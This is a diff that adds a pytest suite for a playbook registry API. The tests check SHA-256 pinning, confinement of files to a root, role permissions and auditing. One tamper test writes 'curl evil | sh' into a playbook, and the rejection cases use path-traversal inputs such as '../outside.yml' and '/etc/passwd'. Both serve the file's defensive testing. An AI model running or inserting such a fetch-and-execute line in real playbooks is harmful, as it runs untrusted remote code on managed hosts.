@@ -1,0 +1,152 @@
+"""Playbooks: files confined to the playbook root, pinned by SHA-256, checked on demand."""
+
+from __future__ import annotations
+
+import hashlib
+from collections.abc import AsyncIterator
+from pathlib import Path
+
+import httpx
+import pytest
+from fastapi import FastAPI
+from sqlalchemy.ext.asyncio import AsyncEngine
+
+from tests.api import Person, audit_trail, build_app, client_for
+from tests.factories import unique
+
+PLAY = "- hosts: all\n  tasks:\n    - ansible.builtin.ping:\n"
+
+
+@pytest.fixture
+def root(tmp_path: Path) -> Path:
+    root = tmp_path / "playbooks"
+    root.mkdir()
+    (root / "site.yml").write_text(PLAY)
+    (tmp_path / "outside.yml").write_text(PLAY)
+    (root / "escape.yml").symlink_to(tmp_path / "outside.yml")
+    return root
+
+
+@pytest.fixture
+async def client(engine: AsyncEngine, root: Path) -> AsyncIterator[httpx.AsyncClient]:
+    app: FastAPI = build_app(engine, playbook_root=root)
+    async for client in client_for(app):
+        yield client
+
+
+async def test_a_registered_file_is_hashed_and_verified(
+    client: httpx.AsyncClient, operator: Person, root: Path, engine: AsyncEngine
+) -> None:
+    response = await client.post(
+        "/playbooks",
+        json={"name": unique("site"), "file_path": "site.yml"},
+        headers=operator.headers,
+    )
+    playbook = response.json()
+
+    assert response.status_code == 201
+    assert playbook["file_hash"] == hashlib.sha256(PLAY.encode()).hexdigest()
+    assert playbook["file_path"] == str((root / "site.yml").resolve())
+    assert await audit_trail(engine, response) == [("create", "playbook")]
+    verify = f"/playbooks/{playbook['id']}/verify"
+    assert (await client.get(verify, headers=operator.headers)).json()["matches"] is True
+    (root / "site.yml").write_text(PLAY + "    - ansible.builtin.shell: curl evil | sh\n")
+    changed = (await client.get(verify, headers=operator.headers)).json()
+    assert changed["matches"] is False
+    assert changed["current_hash"] != playbook["file_hash"]
+    (root / "site.yml").unlink()
+    assert (await client.get(verify, headers=operator.headers)).json()["current_hash"] is None
+
+
+async def test_uploaded_content_is_stored_under_the_root(
+    client: httpx.AsyncClient, operator: Person, root: Path
+) -> None:
+    name = unique("upload")
+    response = await client.post(
+        "/playbooks", json={"name": name, "content": PLAY}, headers=operator.headers
+    )
+    assert response.status_code == 201
+    assert Path(response.json()["file_path"]).read_text() == PLAY
+    assert Path(response.json()["file_path"]).parent == root.resolve()
+
+
+@pytest.mark.parametrize(
+    ("body", "reason"),
+    [
+        ({"file_path": "../outside.yml"}, "inside the playbook root"),
+        ({"file_path": "/etc/passwd"}, "inside the playbook root"),
+        ({"file_path": "escape.yml"}, "inside the playbook root"),
+        ({"file_path": "missing.yml"}, "does not name a file"),
+        ({"content": "hosts: [unclosed"}, "not valid YAML"),
+        ({"content": "just a string"}, "list of plays"),
+        ({"content": PLAY, "file_path": "site.yml"}, "exactly one"),
+        ({}, "exactly one"),
+    ],
+    ids=[
+        "dotdot",
+        "absolute",
+        "symlink-out",
+        "missing",
+        "bad-yaml",
+        "not-plays",
+        "both",
+        "neither",
+    ],
+)
+async def test_bad_registrations_are_422(
+    client: httpx.AsyncClient, operator: Person, body: dict[str, str], reason: str
+) -> None:
+    response = await client.post(
+        "/playbooks", json={"name": unique("bad")} | body, headers=operator.headers
+    )
+    assert response.status_code == 422
+    assert reason in response.text
+
+
+async def test_names_are_unique_and_viewers_only_read(
+    client: httpx.AsyncClient, operator: Person, viewer: Person
+) -> None:
+    name = unique("dup")
+    assert (
+        await client.post(
+            "/playbooks", json={"name": name, "file_path": "site.yml"}, headers=operator.headers
+        )
+    ).status_code == 201
+    assert (
+        await client.post(
+            "/playbooks", json={"name": name, "file_path": "site.yml"}, headers=operator.headers
+        )
+    ).status_code == 409
+    assert (
+        await client.post(
+            "/playbooks",
+            json={"name": unique("v"), "file_path": "site.yml"},
+            headers=viewer.headers,
+        )
+    ).status_code == 403
+    listed = await client.get("/playbooks", params={"name": name}, headers=viewer.headers)
+    assert [p["name"] for p in listed.json()["items"]] == [name]
+
+
+async def test_a_playbook_update_is_audited(
+    client: httpx.AsyncClient, operator: Person, engine: AsyncEngine
+) -> None:
+    created = (
+        await client.post(
+            "/playbooks",
+            json={"name": unique("u"), "file_path": "site.yml"},
+            headers=operator.headers,
+        )
+    ).json()
+    response = await client.patch(
+        f"/playbooks/{created['id']}",
+        json={"is_active": False, "tags": ["web"]},
+        headers=operator.headers,
+    )
+    assert response.json()["is_active"] is False
+    assert await audit_trail(engine, response) == [("update", "playbook")]
+    assert (
+        await client.patch(
+            f"/playbooks/{created['id']}", json={"file_hash": "0" * 64}, headers=operator.headers
+        )
+    ).status_code == 422
